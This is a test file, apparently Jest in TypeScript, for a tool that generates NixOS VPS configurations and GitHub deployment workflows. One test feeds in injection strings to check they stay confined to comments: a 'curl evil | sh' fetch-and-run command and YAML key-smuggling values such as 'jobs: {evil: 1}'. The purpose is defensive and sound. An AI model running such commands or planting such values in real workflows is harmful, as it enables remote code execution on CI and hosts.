import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import YAML from 'yaml';
import { HOST_NAME_RE, initFiles, NIXOS_RELEASE, type InitInput } from '../../src/init/files';
import type { Plan } from '../../src/plan/plan';
import { loadFacts } from '../fixtures/hostconfig/fixtures';
import { parseDescription } from '../../src/hosts/description';

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK/UnUMJXly6GKaAAJ4BbkHdfkE07/ga+GhJ9cZ/aJVV';
const kexec: Plan = { method: 'kexec', reasons: ['960 MiB RAM, KVM'], warnings: [], phases: [] };
const input = (fixture: string, over: Partial<InitInput> = {}): InitInput => ({
  name: 'my-vps',
  target: 'root@203.0.113.7',
  facts: loadFacts(fixture),
  plan: kexec,
  knownHosts:
    '203.0.113.7 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE+zoHjXsGNQfez3JT7f/Xtrjts1/iIJW9RSOmDCpdbJ',
  deployPublicKeys: [KEY],
  date: '2026-12-02',
  ...over,
});
const file = (i: InitInput, path: string) => initFiles(i).find((f) => f.path === path)!.text;
/** `(import FILE { }).vpsNixos.deploy` of a configuration.nix, as JSON (its imports are not read). */
const description = (text: string): unknown => {
  const dir = mkdtempSync(join(tmpdir(), 'init-files-'));
  writeFileSync(join(dir, 'configuration.nix'), text);
  return JSON.parse(
    execFileSync(
      'nix-instantiate',
      [
        '--eval',
        '--strict',
        '--json',
        '-E',
        `(import ${dir}/configuration.nix { }).vpsNixos.deploy`,
      ],
      { encoding: 'utf8', env: { ...process.env, NIX_CONFIG: 'build-users-group =' } },
    ),
  );
};
const parses = (text: string) => {
  const dir = mkdtempSync(join(tmpdir(), 'init-files-'));
  writeFileSync(join(dir, 'x.nix'), text);
  execFileSync('nix-instantiate', ['--parse', join(dir, 'x.nix')], {
    stdio: 'ignore',
    env: { ...process.env, NIX_CONFIG: 'build-users-group =' },
  });
};

describe('init files', () => {
  it('a BIOS host gets a GRUB partition, a UEFI host an ESP at /boot; both parse', () => {
    const bios = file(input('static-ifupdown-debian-12-kvm'), 'hosts/my-vps/disk.nix');
    expect(bios).toContain('type = "EF02";');
    expect(bios).not.toContain('EF00');
    expect(bios).toContain('device = lib.mkOptionDefault "/dev/vda";');
    const efi = file(input('efi-32-onlink-arch-kvm'), 'hosts/my-vps/disk.nix');
    expect(efi).toContain('type = "EF00";');
    expect(efi).toContain('mountpoint = "/boot";');
    for (const i of [input('static-ifupdown-debian-12-kvm'), input('efi-32-onlink-arch-kvm')])
      for (const f of initFiles(i).filter((x) => x.path.endsWith('.nix'))) parses(f.text);
  });

  it('the configuration carries the deploy key, the name and the pinned release', () => {
    const conf = file(input('dhcp-ubuntu-24.04-kvm'), 'hosts/my-vps/configuration.nix');
    expect(conf).toContain(`users.users.root.openssh.authorizedKeys.keys = [ "${KEY}" ];`);
    expect(conf).toContain(`system.stateVersion = "${NIXOS_RELEASE}";`);
    expect(NIXOS_RELEASE).toMatch(/^\d\d\.\d\d$/);
    const none = file(
      input('dhcp-ubuntu-24.04-kvm', { deployPublicKeys: undefined }),
      'hosts/my-vps/configuration.nix',
    );
    expect(none).toContain('authorizedKeys.keys = [ ];');
    expect(none).toMatch(/Put the public key the deploys log in with here/);
    const other =
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE+zoHjXsGNQfez3JT7f/Xtrjts1/iIJW9RSOmDCpdbJ';
    const agent = file(
      input('dhcp-ubuntu-24.04-kvm', { deployPublicKeys: [KEY, `${other}\n`] }),
      'hosts/my-vps/configuration.nix',
    );
    expect(agent).toContain(`"${KEY}"`);
    expect(agent).toContain(`"${other}"`);
    expect(agent).toMatch(/The 2 keys of the ssh-agent init logged in with/);
    parses(agent);
  });

  it('the configuration describes the host: its target and the key init found, as vps-nixos reads it', () => {
    const conf = file(input('dhcp-ubuntu-24.04-kvm'), 'hosts/my-vps/configuration.nix');
    const d = parseDescription('my-vps', description(conf));
    expect(d).toMatchObject({
      target: 'root@203.0.113.7',
      hostKeys: [
        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE+zoHjXsGNQfez3JT7f/Xtrjts1/iIJW9RSOmDCpdbJ',
      ],
    });
    expect(conf).toMatch(/init found it matching the pin/);
    const tofu = file(
      input('dhcp-ubuntu-24.04-kvm', { trustedOnFirstUse: true }),
      'hosts/my-vps/configuration.nix',
    );
    expect(tofu).toMatch(
      /init trusted it on first use, so compare it with the\n {2}# provider's console/,
    );
    expect(initFiles(input('dhcp-ubuntu-24.04-kvm')).map((f) => f.path)).not.toContain(
      'known_hosts',
    );
  });

  it('deploy.yml deploys the described hosts; it wipes only the probed disk, only with kexec', () => {
    const k = YAML.parse(file(input('dhcp-ubuntu-24.04-kvm'), '.github/workflows/deploy.yml'));
    expect(k.jobs.deploy.with).toMatchObject({
      flake: '.',
      hosts: 'all',
      'confirm-wipe': '/dev/sda',
    });
    const infect: Plan = { ...kexec, method: 'infect', reasons: ['a container'] };
    const i = YAML.parse(
      file(input('container-lxc-ubuntu-22.04', { plan: infect }), '.github/workflows/deploy.yml'),
    );
    expect(i.jobs.deploy.with['confirm-wipe']).toBeUndefined();
  });

  it('both workflows read the hosts from the flake: no target or pin in them, only the key secret', () => {
    for (const [path, job] of [
      ['.github/workflows/deploy.yml', 'deploy'],
      ['.github/workflows/update.yml', 'update'],
    ] as const) {
      const w = YAML.parse(file(input('dhcp-ubuntu-24.04-kvm'), path));
      expect(w.jobs[job].with).toMatchObject({ flake: '.', hosts: 'all' });
      for (const k of ['target', 'known-hosts', 'host-key-fingerprint'])
        expect(w.jobs[job].with).not.toHaveProperty(k);
      expect(w.jobs[job].secrets).toEqual({ 'ssh-private-key': '${{ secrets.VPS_SSH_KEY }}' });
    }
  });

  it("text from the host's facts in the plan cannot break out of a comment", () => {
    const hostile: Plan = {
      method: 'refuse',
      reasons: ['os "x"\njobs: {evil: 1}'],
      warnings: [],
      phases: [],
      refusal: { reason: 'refused\n  pwn: true', remediation: 'fix\r\nrun: curl evil | sh' },
    };
    const text = file(
      input('dhcp-ubuntu-24.04-kvm', { plan: hostile }),
      '.github/workflows/deploy.yml',
    );
    const doc = YAML.parse(text);
    expect(Object.keys(doc)).toEqual(['name', 'on', 'permissions', 'jobs']);
    expect(Object.keys(doc.jobs)).toEqual(['deploy']);
    expect(text).toContain('# The plan REFUSES this host as it is: refused pwn: true');
  });

  it('host names are what a flake output, a directory and a hostname can all be', () => {
    for (const ok of ['my-vps', 'web1', 'a']) expect(HOST_NAME_RE.test(ok)).toBe(true);
    for (const bad of ['My-VPS', '1web', 'a b', '../x', 'a.b', ''])
      expect(HOST_NAME_RE.test(bad)).toBe(false);
    expect(() => initFiles(input('dhcp-ubuntu-24.04-kvm', { name: '../x' }))).toThrow(
      /bad host name/,
    );
  });
});
